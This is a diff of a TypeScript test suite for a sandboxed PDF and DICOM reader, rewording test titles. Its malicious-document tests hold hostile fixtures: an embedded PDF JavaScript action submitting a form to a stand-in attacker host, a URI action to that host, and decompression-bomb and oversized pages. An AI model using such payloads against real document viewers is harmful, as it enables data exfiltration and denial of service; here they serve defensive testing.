@@ -56,8 +56,8 @@ function nested(levels: number): readonly string[] {
 /** A page that would be drawn for years. */
 const BOMB = aPdf([{ content: '/F Do', forms: '/F 100000 0 R' }], { objects: nested(9) })
 
-describe('the page that reads documents', () => {
-  it('counts and draws the pages of a PDF document, each as it is, and asks its own origin alone [S2.9]', async () => {
+describe('the document reader’s page', () => {
+  it('counts and renders the pages of a PDF document, and requests only its own origin [S2.9]', async () => {
     const { documents, asked, said, pages } = await open()
     const file = await aFile('three.pdf', aPdf([{}, { content: filled(1, 0, 0) }, { width: 72, height: 144 }]))
     expect(await documents.count(file, { text: true }, signal)).toEqual({ count: 3, hasText: false })
@@ -74,7 +74,7 @@ describe('the page that reads documents', () => {
     expect(pages).toHaveLength(1)
   })
 
-  it('reads the text of a PDF document line after line and page after page, and tells one that has none [S2.9]', async () => {
+  it('extracts a PDF document’s text in reading order, and reports one without text [S2.9]', async () => {
     const { documents } = await open()
     const words = (...lines: readonly string[]) =>
       `BT /F1 12 Tf 14 TL 20 150 Td ${lines.map((line) => `(${line}) Tj T*`).join(' ')} ET`
@@ -92,7 +92,7 @@ describe('the page that reads documents', () => {
     expect(await documents.text(scanned, 2, signal)).toEqual({ reason: DOCUMENT_FAULTS.noText })
   })
 
-  it('writes letters of fonts that a document does not bring, also Chinese ones, by what lies beside it', async () => {
+  it('renders fonts that a document doesn’t embed, including Chinese ones, from bundled data', async () => {
     const { documents, asked } = await open()
     const descendant =
       '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 100002 0 R >>'
@@ -114,7 +114,7 @@ describe('the page that reads documents', () => {
     )
   })
 
-  it('counts and draws the frames of a DICOM file, and nothing of it but pixels leaves the page [S2.9]', async () => {
+  it('counts and renders the frames of a DICOM file, and passes on nothing but pixels [S2.9]', async () => {
     const { documents } = await open()
     const pixels = Uint8Array.from({ length: 2 * 60 * 40 }, (_, at) => (at < 2_400 ? at % 256 : 255 - (at % 256)))
     const file = await aFile(
@@ -175,8 +175,8 @@ describe('the page that reads documents', () => {
   })
 })
 
-describe('a document that is made to do harm', () => {
-  it('runs no script, follows no link, and claims no pages that it doesn’t have [S2.9]', async () => {
+describe('a malicious document', () => {
+  it('runs no script, follows no link, and can’t claim missing pages [S2.9]', async () => {
     const { documents, asked, said } = await open()
     const script = '<< /S /JavaScript /JS (app.alert\\("here"\\); this.submitForm\\("https://evil.example/"\\)) >>'
     const launched = '<< /S /URI /URI (https://evil.example/) >>'
@@ -193,7 +193,7 @@ describe('a document that is made to do harm', () => {
     expect(said.filter((text) => text.includes('here'))).toEqual([])
   })
 
-  it('is drawn no larger than the project takes, however large it says it is', async () => {
+  it('is rendered within the project’s limits, whatever size it claims', async () => {
     const { documents } = await open()
     const huge: readonly PdfPage[] = [
       { width: 2_000_000, height: 2_000_000, content: 'q 20000 0 0 20000 0 0 cm 0 0 1 rg 0 0 100 100 re f Q' },
@@ -208,7 +208,7 @@ describe('a document that is made to do harm', () => {
     expect(await seen(await documents.draw(file, 2, MOST, signal))).toBe(DOCUMENT_FAULTS.narrow)
   })
 
-  it('is given up when it takes too long, and the next one is read', async () => {
+  it('is abandoned when it takes too long, and the next one is read', async () => {
     const { documents, pages } = await open({ countMs: 30_000, drawMs: 3_000 })
     const file = await aFile('bomb.pdf', BOMB)
     expect(await documents.draw(file, 1, MOST, signal)).toEqual({ reason: DOCUMENT_FAULTS.slow })
@@ -217,7 +217,7 @@ describe('a document that is made to do harm', () => {
     expect(pages).toHaveLength(2)
   })
 
-  it('takes its page down alone: the file is named, and the next one is read', async () => {
+  it('crashes only its own page: the file is named, and the next one is read', async () => {
     const { documents, pages } = await open()
     const good = await aFile('still good.pdf', aPdf([{ content: filled(1, 0, 0) }]))
     await documents.draw(good, 1, MOST, signal)
@@ -234,7 +234,7 @@ describe('a document that is made to do harm', () => {
     expect(pages).toHaveLength(2)
   })
 
-  it('is left at once by a person who gives up', async () => {
+  it('can be cancelled at once', async () => {
     const { documents } = await open()
     const stop = new AbortController()
     const drawing = documents.draw(await aFile('bomb 3.pdf', BOMB), 1, MOST, stop.signal)
